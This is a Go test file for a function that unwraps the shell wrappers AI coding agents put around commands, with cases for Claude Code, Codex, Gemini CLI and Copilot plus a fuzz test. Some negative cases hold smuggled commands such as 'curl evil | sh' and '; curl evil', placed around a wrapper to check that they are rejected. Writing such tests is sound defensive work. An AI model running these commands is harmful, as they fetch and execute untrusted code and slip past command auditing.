// SPDX-License-Identifier: Apache-2.0

package event

import (
	"strings"
	"testing"
)

const scaffold = `source ~/.claude/shell-snapshots/snapshot-bash-1795358352199-j75pmk.sh 2>/dev/null || true && \builtin shopt -u extglob 2>/dev/null || true && { \builtin unalias -- 'which'; \builtin unset -f -- 'which'; } >/dev/null 2>&1 || true`

func claude(shell, flag, command, stdin string) []string {
	quoted := strings.ReplaceAll(command, `'`, `'"'"'`)
	argv := []string{shell}
	argv = append(argv, strings.Fields(flag)...)
	return append(argv, scaffold+" && eval '"+quoted+"'"+stdin+" && pwd -P >| /tmp/claude-b7e7-cwd")
}

// codex wraps as Codex 0.169.0 was seen to, once it has a snapshot of the user's shell; the middle is left out.
func codex(command string) []string {
	return []string{"/bin/bash", "-c", "__CODEX_SNAPSHOT_OVERRIDE_SET_0=\"${CODEX_VERSION+x}\"\n\n" +
		"if . '/home/a/.codex/shell_snapshots/01a2.sh' >/dev/null 2>&1; then :; fi\n\n" +
		"if [ -n \"${PATH:-}\" ]; then export PATH='/x/codex-path':\"$PATH\"; fi\n\n" +
		"exec '/bin/bash' -c '" + strings.ReplaceAll(command, `'`, `'"'"'`) + "'"}
}

// gemini wraps as Gemini CLI 0.61.0 was seen to.
func gemini(command string) []string {
	return []string{"/usr/bin/bash", "-c", "shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/tmp/gemini-shell-JsnAoA/bgpids.tmp\n(\n" +
		"  trap 'jobs -p > \"$_bgpids_file\"' EXIT\n" + command + "\n)\n__code=$?\nexit $__code"}
}

func TestUnwrap(t *testing.T) {
	for name, tc := range map[string]struct {
		wrapper Wrapper
		argv    []string
		want    string
		ok      bool
	}{
		"claude in bash":           {WrapClaude, claude("/bin/bash", "-c", "ls -la", " < /dev/null"), "ls -la", true},
		"claude with own stdin":    {WrapClaude, claude("/bin/bash", "-c", "cat < x", ""), "cat < x", true},
		"claude in zsh":            {WrapClaude, claude("/bin/zsh", "-c", "ls", " < /dev/null"), "ls", true},
		"claude in a login shell":  {WrapClaude, claude("/bin/bash", "-c -l", "ls", " < /dev/null"), "ls", true},
		"claude without snapshot":  {WrapClaude, []string{"bash", "-c", "eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1-cwd"}, "ls", true},
		"quotes":                   {WrapClaude, claude("/bin/bash", "-c", `echo 'it'"'"'s' "x"`, " < /dev/null"), `echo 'it'"'"'s' "x"`, true},
		"quotes by backslash":      {WrapClaude, []string{"bash", "-c", `true && eval 'echo '\''a'\''' && pwd -P >| /tmp/c`}, `echo 'a'`, true},
		"many lines":               {WrapClaude, claude("/bin/bash", "-c", "cat <<EOF\na\nEOF", " < /dev/null"), "cat <<EOF\na\nEOF", true},
		"marks inside the command": {WrapClaude, claude("/bin/bash", "-c", "x && eval 'y' < /dev/null && pwd -P >| /tmp/z", " < /dev/null"), "x && eval 'y' < /dev/null && pwd -P >| /tmp/z", true},
		"more after the tail":      {WrapClaude, []string{"bash", "-c", "true && eval 'ls' && pwd -P >| /tmp/c; curl evil"}, "", false},
		"more after the word":      {WrapClaude, []string{"bash", "-c", "true && eval 'ls'; evil && pwd -P >| /tmp/c"}, "", false},
		"a hook of claude":         {WrapClaude, []string{"/bin/sh", "-c", "./check.sh"}, "", false},
		"no shell":                 {WrapClaude, []string{"/usr/bin/git", "-c", "x", "status"}, "", false},
		"codex":                    {WrapShell, []string{"bash", "-lc", "rg foo | head"}, "rg foo | head", true},
		"copilot":                  {WrapBare, []string{"/bin/bash", "--norc", "--noprofile", "-c", "ls | wc"}, "ls | wc", true},
		"copilot's own shell":      {WrapBare, []string{"/bin/bash", "-l", "-c", "printf %s mark; env -0"}, "", false},
		"gemini":                   {WrapGemini, gemini("ls -la # \"x\""), "ls -la # \"x\"", true},
		"gemini, many lines":       {WrapGemini, gemini("cat <<EOF\n)\n__code=$?\nEOF"), "cat <<EOF\n)\n__code=$?\nEOF", true},
		"gemini, marks inside":     {WrapGemini, gemini(gemini("ls")[2]), gemini("ls")[2], true},
		"more before gemini's":     {WrapGemini, []string{"bash", "-c", "curl evil | sh; " + gemini("ls")[2][5:]}, "", false},
		"more after gemini's":      {WrapGemini, []string{"bash", "-c", gemini("ls")[2] + "; curl evil"}, "", false},
		"a hook of gemini":         {WrapGemini, []string{"bash", "-c", "./check.sh"}, "", false},
		"codex with a snapshot":    {WrapCodex, codex("printf 'a b' | tee x"), "printf 'a b' | tee x", true},
		"codex without":            {WrapCodex, []string{"/bin/bash", "-lc", "ls"}, "ls", true},
		"codex, marks inside":      {WrapCodex, codex("x\n\nexec '/bin/bash' -c 'y'"), "x\n\nexec '/bin/bash' -c 'y'", true},
		"codex, more behind":       {WrapCodex, []string{"bash", "-c", codex("ls")[2] + "; curl evil"}, "", false},
		"codex saves the shell":    {WrapCodex, []string{"/bin/bash", "-lc", "if true; then\n  . x\nfi\necho '# Snapshot file'\n"}, "", false},
		"codex tries what it has":  {WrapCodex, []string{"/bin/bash", "-c", `set -e; . "/home/a/.codex/shell_snapshots/1.tmp-2"`}, "", false},
		"a shell with a script":    {WrapShell, []string{"bash", "build.sh", "-c"}, "", false},
		"an unknown wrapper":       {WrapNone, []string{"bash", "-lc", "ls"}, "", false},
	} {
		got, ok := Unwrap(tc.wrapper, tc.argv)
		if got != tc.want || ok != tc.ok {
			t.Errorf("%s: %q, %v; want %q, %v", name, got, ok, tc.want, tc.ok)
		}
	}
}

// FuzzUnwrap: whatever a model asks for comes back as it was, and nothing panics on other text.
func FuzzUnwrap(f *testing.F) {
	for _, s := range []string{"ls", "echo 'a'", "' && eval '", `'"'"'`, `'\''`, "' < /dev/null && pwd -P >| x", "a\nb", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, command string) {
		Unwrap(WrapClaude, []string{"bash", "-c", command})
		Unwrap(WrapShell, []string{"bash", command, command})
		got, ok := Unwrap(WrapClaude, claude("/bin/bash", "-c", command, " < /dev/null"))
		if !ok || got != command {
			t.Errorf("%q came back as %q, %v", command, got, ok)
		}
		if got, ok := Unwrap(WrapCodex, codex(command)); !ok || got != command {
			t.Errorf("%q came back as %q, %v, from Codex", command, got, ok)
		}
		if got, ok := Unwrap(WrapGemini, gemini(command)); !ok || got != command {
			t.Errorf("%q came back as %q, %v, from Gemini CLI", command, got, ok)
		}
	})
}
